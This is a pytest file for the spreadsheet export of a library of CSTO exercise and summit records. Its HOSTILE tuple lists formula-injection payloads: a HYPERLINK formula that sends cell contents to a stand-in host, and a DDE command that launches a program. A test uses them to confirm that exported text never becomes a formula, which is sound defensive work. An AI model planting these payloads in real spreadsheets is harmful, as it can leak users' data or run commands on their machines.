"""Spreadsheets, held against openpyxl as a reader, and against pandas as analysts read them."""

import io
import json
import re
import subprocess
import sys
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given, settings

import csto_records as csto
from csto_records import DateSpan, Quantity, Source, StateCode, Text, Title, strategies
from csto_records.formats import _xlsx, tables_of

openpyxl: Any = pytest.importorskip("openpyxl")

SEED = csto.load("seed")
EXERCISE = csto.Exercise(
    id="exercise-1899-interaction",
    name=Text("Interaction"),
    nature="exercise",
    status="held",
    framework="CSTO",
    dates=DateSpan.parse("1900-02-28/1900-03-01"),
)
HOSTILE = (
    '=HYPERLINK("https://example.org/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "#N/A",
    "#REF!",
    "＝1+1",
    "TRUE",
    "2024",
    "1e5",
    "2024-11-28",
    "<b>&amp;</b> \"quoted\" 'so'",
    "שלום мир 你好 🕊",
)


def book(value: Any) -> Any:
    return openpyxl.load_workbook(io.BytesIO(_xlsx.write(value)))


def column(sheet: Any, name: str) -> list[Any]:
    head, *rows = sheet.iter_rows()
    at = [cell.value for cell in head].index(name)
    return [row[at] for row in rows]


def rows_of(sheet: Any) -> list[dict[str, Any]]:
    head, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(head, row, strict=True)) for row in rows]


def unescaped(text: Any) -> Any:
    """Read ST_Xstring as a spreadsheet does: openpyxl does not for the strings that stand in their cells."""
    return text.replace("_x005F_", "_") if isinstance(text, str) else text


def titled(*titles: str) -> csto.Collection[Source]:
    about: dict[str, Any] = {"publisher": "A press", "language": "en", "source_type": "press"}
    return csto.Collection(Source(id=f"page-{i}", title=Title(title), **about) for i, title in enumerate(titles))


def test_a_dataset_is_a_sheet_a_table() -> None:
    archive = csto.load()
    part = archive.only([*archive.summits[-3:], *archive.exercises[-9:], *archive.officials[:3]])
    made = book(part)
    tables = tables_of(part)
    assert made.sheetnames == ["about", *(name[:31] for name in tables)]
    assert len(set(made.sheetnames)) == len(made.sheetnames)
    for name, table in tables.items():
        sheet = made[name[:31]]
        found = rows_of(sheet)
        assert len(found) == len(table)
        for row, expected in zip(found, table, strict=True):
            for key, value in expected.items():
                here = row[key].date() if isinstance(row[key], datetime) else row[key]
                assert here == (float(value) if isinstance(value, Decimal) else value)
                assert type(here) is type(value) or isinstance(value, Decimal)


def test_a_collection_is_one_sheet_and_one_of_several_types_a_sheet_for_each() -> None:
    assert book(SEED.exercises).sheetnames == ["about", "exercises"]
    assert book(SEED.summits).sheetnames == book(SEED.summits.first).sheetnames == ["about", "summits"]
    mixed = csto.Collection[Any]([*SEED.exercises, *SEED.people, *SEED.summits])
    made = book(mixed)
    assert made.sheetnames == ["about", "summits", "exercises", "people"]
    assert [cell.value for cell in column(made["exercises"], "id")] == list(SEED.exercises.ids)
    assert book(SEED.exercises[:0]).sheetnames == ["about", "exercises"]
    assert rows_of(book(SEED.exercises[:0])["exercises"]) == []
    assert book(csto.Collection[Any]()).sheetnames == ["about", "records"]
    with pytest.raises(TypeError, match="is expected; found 5"):
        _xlsx.write(5)  # type: ignore[arg-type]  # pyright: ignore[reportArgumentType]


def test_a_list_stands_in_one_cell_where_unknown_is_not_none() -> None:
    place = csto.Location(name="Astana", state=StateCode("KZ"))
    result = csto.Result(measure="drugs-seized", quantity=Quantity(Decimal("1.5")), period=DateSpan.parse("1899"))
    record = attrs.evolve(EXERCISE, hosts=(StateCode("KZ"), StateCode("RU")), observers=(), places=(place,))
    (row,) = rows_of(book(attrs.evolve(record, results=(result,)))["exercises"])
    assert row["hosts"] == "KZ; RU"
    assert row["observers"] == "[]"
    assert row["participants"] is None
    assert row["citations"] == "[]"
    assert json.loads(row["places"]) == [{"name": "Astana", "state": "KZ"}]
    assert json.loads(row["results"]) == [
        {
            "measure": "drugs-seized",
            "quantity": 1.5,
            "quantity_qualifier": "exactly",
            "period": "1899",
            "period_earliest": "1899-01-01",
            "period_latest": "1899-12-31",
            "period_precision": "year",
        }
    ]


def test_dates_are_dates_from_the_first_that_all_spreadsheets_count_alike() -> None:
    sheet = book(EXERCISE)["exercises"]
    (early,), (late,) = column(sheet, "dates_earliest"), column(sheet, "dates_latest")
    assert (early.value, early.data_type) == ("1900-02-28", "s")
    assert (late.value, late.is_date, late.number_format) == (datetime(1900, 3, 1), True, "yyyy-mm-dd")  # noqa: DTZ001
    (edtf,) = column(sheet, "dates")
    assert (edtf.value, edtf.data_type) == ("1900-02-28/1900-03-01", "s")
    (last,) = column(book(attrs.evolve(EXERCISE, dates=DateSpan.parse("9999")))["exercises"], "dates_latest")
    assert last.value.date() == date.max


def test_numbers_are_numbers_and_truth_is_truth() -> None:
    record = attrs.evolve(EXERCISE, personnel=Quantity(1500, "more-than"), equipment=Quantity(Decimal("0.125")))
    sheet = book(record)["exercises"]
    kinds = {name: column(sheet, name)[0] for name in ("personnel", "equipment", "aircraft", "aggregate")}
    assert [(cell.value, cell.data_type) for cell in kinds.values()] == [
        (1500, "n"),
        (0.125, "n"),
        (None, "n"),
        (False, "b"),
    ]


def test_no_text_is_a_formula_whatever_it_begins_with() -> None:
    made = book(titled(*HOSTILE))
    cells = column(made["sources"], "title")
    assert [cell.value for cell in cells] == list(HOSTILE)
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.hyperlink is None
        assert bool(cell.quotePrefix) == (cell.value[0] in "=+-@#＝")
    content = _xlsx.write(titled(*HOSTILE))
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            assert b"<f>" not in parts.read(name)
            assert b"<f " not in parts.read(name)


def test_the_name_of_a_dataset_is_no_formula_either() -> None:
    made = book(csto.Dataset(name="=1+1"))
    found = {cell.value: cell.data_type for cell in made["about"]["B"]}
    assert found["=1+1"] == "s"


def test_what_spreadsheets_take_for_an_escape_is_escaped() -> None:
    (cell,) = column(book(titled("_x0041_ and _x004_ and _xABCD_x0041_"))["sources"], "title")
    assert cell.value == "_x005F_x0041_ and _x004_ and _x005F_xABCD_x005F_x0041_"
    assert unescaped(cell.value) == "_x0041_ and _x004_ and _xABCD_x0041_"


def test_a_longer_text_than_a_cell_holds_is_cut_and_says_so() -> None:
    whole, long, wide = "a" * 32_767, "a" * 32_768, "🕊" * 16_384
    cells = [cell.value for cell in column(book(titled(whole, long, wide))["sources"], "title")]
    assert cells[0] == whole
    assert cells[1] == "a" * (32_767 - 11) + " [cut here]"
    assert cells[2] == "🕊" * 16_378 + " [cut here]"
    assert all(len(text.encode("utf-16-le")) // 2 <= 32_767 for text in cells)


def test_more_rows_than_a_sheet_holds(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_xlsx, "_MOST_ROWS", 4)
    with pytest.raises(csto.QueryError) as error:
        _xlsx.write(titled("a", "b", "c", "d"))
    text = "sources has 4 rows, and a sheet holds 3 below its head"
    assert str(error.value) == f"{text}: another format holds more, such as .csv"
    assert len(rows_of(book(titled("a", "b", "c"))["sources"])) == 3


def test_a_sheet_is_ready_to_be_read() -> None:
    sheet = book(SEED.exercises)["exercises"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == sheet.dimensions
    head, first, *_ = sheet.iter_rows()
    assert all(cell.font.bold for cell in head)
    assert not any(cell.font.bold for cell in first)
    widths = [sheet.column_dimensions[cell.column_letter].width for cell in head]
    assert all(8 <= width <= 60 for width in widths)
    assert len(set(widths)) > 5


def test_the_first_sheet_says_what_the_others_are() -> None:
    rows = list(book(SEED)["about"].iter_rows(values_only=True))
    facts = {row[0]: row[1] for row in rows}
    assert facts["about"] == f"csto_records {csto.__version__}"
    assert facts["data version"] == csto.DATA_VERSION
    assert facts["schema version"] == csto.SCHEMA_VERSION
    assert facts["edition"] == facts["name"] == "seed"
    assert "Attribution 4.0" in facts["licence"]
    assert f"csto_records {csto.__version__}, seed edition, data of {csto.DATA_VERSION}" in facts["how to cite"]
    assert ("exercises", tables_of(SEED)["exercises"].doc, len(SEED.exercises), None, None, None) in rows
    assert any(
        row[:3] == ("exercises", "The states on whose ground it was held.", "hosts") for row in _about_exercises()
    )
    of_summits = {row[2]: row for row in rows if row[0] == "summits" and row[2] is not None}
    assert of_summits["kind"][3:5] == ("code", "regular, extraordinary, informal, consultative")
    assert of_summits["place"][5] == "places"


def _about_exercises() -> list[tuple[Any, ...]]:
    return list(book(SEED.exercises)["about"].iter_rows(values_only=True))


def test_data_of_others_are_not_given_our_licence() -> None:
    mine = {row[0] for row in book(EXERCISE)["about"].iter_rows(values_only=True)}
    assert {"licence", "how to cite", "edition"}.isdisjoint(mine)
    assert "licence" not in {row[0] for row in book(csto.Dataset(name="seed"))["about"].iter_rows(values_only=True)}
    again = csto.loads(csto.dumps(SEED.exercises))
    assert "licence" in {row[0] for row in book(again)["about"].iter_rows(values_only=True)}


def test_the_same_value_gives_the_same_bytes_at_any_time() -> None:
    code = (
        "import sys, csto_records as csto; from csto_records.formats import _xlsx;"
        "sys.stdout.buffer.write(_xlsx.write(csto.load('seed')))"
    )
    content = _xlsx.write(SEED)
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, check=True).stdout == content
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert {part.date_time for part in parts.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = parts.read("docProps/core.xml").decode()
    assert set(re.findall(r">([0-9]{4}-[^<]+)<", core)) == {f"{csto.DATA_VERSION}T00:00:00Z"}


@pytest.mark.parametrize(
    ("suffix", "foreign"),
    [(".ics", b"{}"), (".geojson", b"[]"), (".bib", b"{}"), (".csl.json", b"{}"), (".xlsx", b"{}")],
)
def test_a_one_way_format_replaces_its_own_files_and_is_not_read(tmp_path: Path, suffix: str, foreign: bytes) -> None:
    path = tmp_path / f"out{suffix}"
    csto.write(SEED, path)
    first = path.read_bytes()
    csto.write(SEED, path)
    assert path.read_bytes() == first
    with pytest.raises(csto.QueryError, match="is written only, and leaves out"):
        csto.read(path)
    path.write_bytes(foreign)
    with pytest.raises(OSError, match="What is there is no "):
        csto.write(SEED, path)
    assert path.read_bytes() == foreign


def test_a_disk_without_room_for_the_sheets_is_told_of_the_workbook(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What openpyxl writes first lies elsewhere, under a name that says nothing."""
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "missing"))
    with pytest.raises(FileNotFoundError) as caught:
        csto.write(SEED, tmp_path / "seed.xlsx")
    assert caught.value.filename == str(tmp_path / "seed.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_without_openpyxl(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    with pytest.raises(csto.MissingExtraError) as error:
        _xlsx.write(SEED)
    assert str(error.value).endswith('pip install "csto-records[xlsx]"')


def test_pandas_reads_right_types() -> None:
    pandas: Any = pytest.importorskip("pandas")
    frame = pandas.read_excel(io.BytesIO(_xlsx.write(SEED)), sheet_name="exercises")
    assert frame["dates_earliest"].dtype.kind == "M"
    assert frame["personnel"].dtype.kind in "if"
    assert list(frame["id"]) == list(SEED.exercises.ids)


@settings(max_examples=25)
@given(strategies.collections())
def test_any_collection(records: csto.Collection[Any]) -> None:
    made = book(records)
    written = [unescaped(cell.value) for sheet in made.worksheets[1:] for cell in column(sheet, _key(sheet))]
    assert sorted(written) == sorted(records.ids)
    for sheet in made.worksheets:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            assert cell.data_type in {"s", "n", "b", "d"}
            assert cell.value is None or (cell.data_type == "s") == isinstance(cell.value, str)


def _key(sheet: Any) -> str:
    return {"states": "code", "people": "name", "places": "name", "records": "type"}.get(sheet.title, "id")
